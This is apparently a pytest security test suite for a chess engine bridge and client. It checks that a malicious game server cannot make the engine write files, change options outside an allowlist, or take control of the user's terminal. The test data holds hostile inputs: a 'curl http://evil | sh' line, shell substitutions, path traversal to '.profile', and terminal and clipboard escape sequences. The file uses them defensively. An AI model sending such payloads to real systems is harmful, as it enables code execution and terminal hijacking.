"""Our programs at a server that wants something of the machine that they run on: real processes, a
real socket, and a home whose files are watched."""

import re
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from tests.support import recording_engine
from tests.support.bots import BotFile
from tests.support.strange_server import Machine, Program, StrangeServer, controls, strange_server
from ulci_client.terminal.model.state import Exit

pytestmark = pytest.mark.system

ENGINE = (sys.executable, recording_engine.__file__)

# Each of them would write a file, or take what the owner did not give.
ATTACKS = (
    "debug log file", "LogFile", "SyzygyPath", "EvalFile", "Save Hash to File", "Threads",
    "Skill Level", "Contempt", "UCI_EngineAbout", "UCI_SetPositionValue", "Hash", "MultiPV",
    "Clear Hash", "UCI_Opponent", "UCI_Variant", "UCI_Elo", "Ponder", "UCI_Chess960",
)  # fmt: skip

# What the engine may be told, whatever the server says. Every line of it must be one of these.
TABLE = re.compile(
    r"uci|isready|ucinewgame|stop|quit"
    r"|setoption name (Hash value (\d|\d\d|1\d\d|2[0-4]\d|25[0-6])|Clear Hash"
    r"|(Ponder|UCI_Chess960|UCI_LimitStrength|UCI_ShowWDL) value (true|false)"
    r"|MultiPV value [1-8]|UCI_Elo value [123]\d\d\d|UCI_Variant value (chess|atomic|crazyhouse)"
    r"|UCI_Opponent value [^/\\\x00-\x1f]{1,200})"
    r"|position startpos( moves( [a-h][1-8][a-h][1-8][qrbn]?)+)?"
    r"|position fen [-\w/ ]+"
    r"|go( (wtime|btime|winc|binc|movetime|depth|nodes) \d+)*"
)


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    return Machine(tmp_path)


@asynccontextmanager
async def bridge(
    machine: Machine, record: Path, *options: str
) -> AsyncIterator[tuple[StrangeServer, Program]]:
    """In a game against Ada, with the recording engine."""
    async with strange_server() as server:
        argv = ("--server", server.address, "--games", "1", *options)
        async with machine.running("bridge", *argv, "--", *ENGINE, str(record)) as program:
            await server.admit("Fish")
            await server.hear("seek")
            await server.say(
                "lobby game 1 start white Fish black Ada game chess time 60+1 rated no"
            )
            yield server, program


async def all_read(server: StrangeServer) -> None:
    """The bridge and its engine have heard everything so far."""
    await server.say("isready")
    await server.hear("readyok")


async def finish(server: StrangeServer, program: Program) -> None:
    await server.say("lobby game 1 over result 1-0 reason resignation")
    await server.hear("quit")
    await server.close()
    assert await program.ended() == 0


def told(record: Path) -> list[str]:
    return record.read_text("utf-8").splitlines()


async def test_a_server_cannot_make_an_engine_write_a_file_or_set_what_is_not_in_the_table(
    machine, tmp_path
):
    record = tmp_path / "record"
    values = (
        f" value {machine.home}/.profile", " value ../home/.profile", " value new.log", "",
        " value 33554432", " value true", " value 500", " value none none human ../../.profile",
    )  # fmt: skip
    async with bridge(machine, record) as (server, program):
        for name in ATTACKS:
            await server.say(*(f"setoption name {name}{value}" for value in values))
        await server.say("curl http://evil | sh")
        await all_read(server)
        await server.say("position startpos", "go wtime 60000 btime 60000")
        await server.hear("bestmove g1f3")
        await finish(server, program)
    lines = told(record)
    assert [line for line in lines if not TABLE.fullmatch(line)] == []
    assert "setoption name UCI_Opponent value none none human .._.._.profile" in lines
    assert machine.touched() == set()
    assert b"a server may not set 'Debug Log File'" in program.output


@pytest.mark.parametrize(
    "words",
    [
        ("debug on", "register name Eve code 1", "bench", "eval", "perft 30", "query result"),
        ("xyzzy setoption name Debug Log File value new.log", "savehash new.log", "!touch new.log"),
        (b"setoption name LogFile value \xff\xfe\x00new.log", b"\x1b]0;x\x07", b"\x00\x01\x02"),
        ("setoption name Hash value 32\rsetoption name LogFile value new.log",),
        ("setoption name UCI_Opponent value none none human A\x85setoption name LogFile value x",),
        (b"setoption name LogFile value " + b"x" * 100_000,),
        ("setoption", "setoption name", "setoption value x", "position", "position fen", "go x"),
        ("ponderhit", "stop", "stop", "ponderhit"),
        ("position fen 8/8/8/8/8/8/8/8 w - - 0 1", "stop"),
    ],
)  # fmt: skip
async def test_whatever_a_server_says_its_engine_hears_only_what_the_table_lists(
    machine, tmp_path, words
):
    record = tmp_path / "record"
    async with bridge(machine, record) as (server, program):
        await server.say(*words)
        await all_read(server)
        await server.say("position startpos", "go wtime 60000 btime 60000")
        await server.hear("bestmove g1f3")
        await finish(server, program)
    assert [line for line in told(record) if not TABLE.fullmatch(line)] == []
    assert machine.touched() == set()
    assert not controls(program.output)
    assert b"Traceback" not in program.output


@pytest.mark.parametrize(
    "start",
    [
        "8/8/8/8/8/8/8/8 w - - 0 1",
        "4k3/8/8/8/8/8/8/4K3 w KQkq - 0 1",
        "4k3/8/8/8/8/8/8/4R1K1 w - - 0 1",
        "QQQQQQQQ/QQQQQQQQ/8/8/k7/8/8/K7 w - - 0 1",
        "/" * 400,
        "$(touch new.log)/8/8/8/8/8/8/8 w - - 0 1",
    ],
)
async def test_a_position_that_engines_choke_on_is_answered_in_their_place(
    machine, tmp_path, start
):
    record = tmp_path / "record"
    async with bridge(machine, record) as (server, program):
        await server.say(f"position fen {start}", "go wtime 60000 btime 60000")
        report = await server.hear("info clienterror")
        assert "the engine was not given this position" in report
        await server.hear("resign")
        await server.hear("bestmove 0000")
        await finish(server, program)
    assert not [line for line in told(record) if line.startswith(("position", "go"))]
    assert machine.touched() == set()


async def test_the_owner_sets_and_allows_what_the_server_may_not(machine, tmp_path):
    record = tmp_path / "record"
    owner = ("--option", "Hash=64", "--allow-option", "contempt", "--max-hash", "1024")
    async with bridge(machine, record, *owner) as (server, program):
        await server.say(
            "setoption name Hash value 128",
            "setoption name Contempt value 50",
            "setoption name Contempt value 500",
            "setoption name Skill Level value 1",
        )
        await all_read(server)
        await finish(server, program)
    assert [line for line in told(record) if line.startswith("setoption")] == [
        "setoption name Hash value 64",
        "setoption name Contempt value 50",
    ]


async def test_the_owner_bounds_the_memory_that_a_server_asks_for(machine, tmp_path):
    record = tmp_path / "record"
    async with bridge(machine, record, "--max-hash", "1024") as (server, program):
        await server.say("setoption name Hash value 1024", "setoption name Hash value 1025")
        await all_read(server)
        await finish(server, program)
    assert [line for line in told(record) if line.startswith("setoption")] == [
        "setoption name Hash value 1024"
    ]


LENDER = BotFile(
    """
server = "tcp://127.0.0.1:{port}"
games = 1
[[engine]]
command = ["@PYTHON@", "@ENGINE@", "{folder}/record"]
allow_options = ["contempt"]
max_hash = 1024
[engine.options]
MultiPV = 2
""".replace("@PYTHON@", ENGINE[0]).replace("@ENGINE@", ENGINE[1]),
    "engine.allow_options engine.max_hash",
)


async def test_a_bots_file_says_what_the_server_may_set(machine, tmp_path):
    async with strange_server() as server:
        file = tmp_path / "bot.toml"
        file.write_text(LENDER.written(port=server.port, folder=tmp_path))
        async with machine.running("bridge", "--config", str(file)) as program:
            await server.admit("Fish")
            await server.hear("seek")
            await server.say(
                "lobby game 1 start white Fish black Ada game chess time 60+1 rated no",
                "setoption name Hash value 1024",
                "setoption name Hash value 1025",
                "setoption name Contempt value 50",
                "setoption name MultiPV value 3",
                "setoption name LogFile value x",
            )
            await all_read(server)
            await finish(server, program)
    assert [line for line in told(tmp_path / "record") if line.startswith("setoption")] == [
        "setoption name MultiPV value 2",
        "setoption name Hash value 1024",
        "setoption name Contempt value 50",
    ]


EVIL = (
    "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\u202egnp.emag", "a\u0301" + "\u0301" * 50,
    "$(touch new.log)", "../../home/.profile", "`touch new.log`", "%s%n", "\u2028end", "\u009b31m",
)  # fmt: skip


async def test_what_a_server_says_to_a_person_commands_no_terminal_and_writes_no_file(machine):
    async with (
        strange_server() as server,
        machine.running("play", "--plain", "--server", server.address, "--name", "Ada") as program,
    ):
        await server.admit("Ada")
        for number, text in enumerate(EVIL, 2):
            word = text.replace(" ", "_")
            await server.say(
                f"info string {text}", f"info servererror {text}", f"lobby say Bob {text}",
                f"lobby tell Bob {text}", f"lobby error no-such-player {text}",
                f"lobby note x {text}", f"lobby {text}", f"{text}",
                f"lobby challenge {number} {word} human game chess time 60 rated no",
                f"lobby game {number} start white Ada black {word} game {word} time 1 rated no",
                f"save {text}", f"lobby save {text}", f"setoption name {text} value {text}",
            )  # fmt: skip
        await server.say(
            "lobby game 1 start white Ada black ../../x game chess time 60+1 rated no",
            "ucinewgame", "position startpos", "go wtime 60000 btime 60000", "isready",
        )  # fmt: skip
        await server.hear("readyok")
        assert machine.touched() == set()
        await program.type("save mine.pgn")
        await program.shows("saved")
        await program.type("quit", "yes")
        await server.hear("quit")
    assert machine.touched() == {"work/mine.pgn"}
    assert "../../x" in (machine.work / "mine.pgn").read_text()
    assert not controls(program.output)
    assert b"Traceback" not in program.output


# No program of ours has these numbers in a sequence; a terminal would obey each.
SEQUENCES = (
    "\x1b[6661;6662H", "\x1b[6663m", "\x1b]0;owned\x07", "\x1b]52;c;b3duZWQ=\x07",
    "\x1bPowned\x1b\\", "\u009b6664m", "\u009downed\u009c", "\x1b[21t", "\x1bc",
    "\x0e\x0f\x7f\x00", "\u202eowned",
)  # fmt: skip
POSITIONS = (
    "", "fen", "fen x", "fen 8/8/8/8/8/8/8/8 w - - 0 1", "startpos moves e2e9 e2e4 0000",
    "fen " + "/".join(["256"] * 256) + " w - - 0 1", "fen " + "9" * 60_000,
    "startpos moves" + " e2e4" * 9000,
    "fen rnbqkbnr/pppppppp/8/8/8/8/PPPPPPPP/RNBQKBNR[\x1b[6665m] w - - 0 1",
)  # fmt: skip
OURS = re.compile(r"\x1b(\[[?>]?[\d;]*[A-Za-z]|[=>78]|\(B)")
"""What the full-screen program tells its terminal."""


async def test_what_a_server_says_commands_no_terminal_that_it_fills(machine):
    async with (
        strange_server() as server,
        machine.on_a_terminal("play", "--server", server.address, "--name", "Ada") as program,
    ):
        await server.admit("Ada")
        for number, text in enumerate((*SEQUENCES, *EVIL), 2):
            word = text.replace(" ", "_")
            await server.say(
                f"info string {text}", f"info clienterror {text}", f"lobby tell Bob {text}",
                f"lobby tell {word} {text}", f"lobby error no-such-player {text}", text,
                f"lobby seek {number} player {word} kind human game {word} time {word} color white",
                f"lobby challenge {number} player {word} kind human game chess time 60 rated no",
                f"lobby who {word} human {word}", f"lobby playing {number} white {word} black Bob",
                f"save {text}", f"setoption name {text} value ../../home/.profile",
            )  # fmt: skip
        await server.say(b"\xff\xfe\x9b6666m\x00", b"lobby tell Bob \xff\x9b6666m", "x" * 100_000)
        await server.say(*(f"lobby tell Bob line {number}" for number in range(5000)), "isready")
        await server.hear("readyok")
        for number, game in enumerate(("chess", "liberty", "crazyhouse", "mnk", "../../x"), 1):
            await server.say(
                f"lobby game {number} start white Ada black Bob game {game} time 60+1 rated no",
                "ucinewgame",
            )
            for position in POSITIONS:
                await server.say(
                    f"position {position}", "clock wtime 60000 btime 99999999999999999999",
                    "info depth 3 score cp 99999999999 pv \u202ee2e4", f"lobby say Bob {EVIL[2]}",
                    f"lobby game {number} opponent {EVIL[2]}",
                    f"lobby game {number} offer draw from Bob",
                )  # fmt: skip
            await server.say("position startpos", "go wtime 60000 btime 60000", "isready")
            await server.hear("readyok")
            if game != "../../x":
                await server.say("stop", f"lobby game {number} over result 1-0 reason {EVIL[2]}")
                await server.hear("bestmove")
        assert machine.touched() == set()
        await program.type("save mine.pgn")
        await program.type("quit", "yes")
        await server.hear("quit")
        assert await program.ended() == Exit.MID_GAME
    assert machine.touched() == {"work/mine.pgn"}
    shown = program.output.decode()
    assert not re.findall(r"\x1b[^A-Za-z]*66[67]\d", shown)
    assert not controls(OURS.sub("", shown).encode(), but=("\n", "\r", "\b"))
    assert "Traceback" not in shown


UCI_LINE = re.compile(
    r"(id (name|author) .+|option name .+|uciok|readyok|info string .*|info .+|bestmove .+)"
)


async def test_what_a_server_says_to_a_gui_is_text_for_people_and_legal_moves(machine):
    async with (
        strange_server() as server,
        machine.running("opponent", "--server", server.address, "--opponent", "Bob") as program,
    ):
        await program.type("uci", "ucinewgame", "isready")
        await program.shows("uciok")
        introduced = program.output
        await server.admit("GUI")
        await server.hear("challenge")
        for text in EVIL:
            await server.say(
                f"info string {text}", f"info servererror {text}", f"lobby say Bob {text}",
                f"lobby note x {text}", text,
                "option name LogFile type string default x", "id name Eve", "bestmove e7e5",
                f"setoption name {text} value x", "info depth 9 pv " + text,
            )  # fmt: skip
        await server.say(
            "lobby game 1 start white GUI black Bob game chess time 60+1 rated no", "ucinewgame",
            "isready",
        )  # fmt: skip
        await server.hear("readyok")
        await program.shows("readyok")
        await program.type("position startpos moves e2e4", "go")
        await server.say("position startpos", "go wtime 60000 btime 60000")
        await server.hear("bestmove e2e4")
        await server.say("position startpos moves e2e4 e7e9", "go wtime 60000 btime 60000")
        await server.say("lobby game 1 over result 0-1 reason resignation")
        await program.shows("bestmove")
        await program.type("quit")
        assert await program.ended() == 0
    after = program.output[len(introduced) :].decode()
    lines = after.splitlines()
    assert [line for line in lines if not UCI_LINE.fullmatch(line)] == []
    assert not [line for line in lines if line.startswith(("id ", "option ", "uciok"))]
    assert [line for line in lines if line.startswith("bestmove")] == ["bestmove (none)"]
    assert not controls(program.output)
    assert machine.touched() == set()
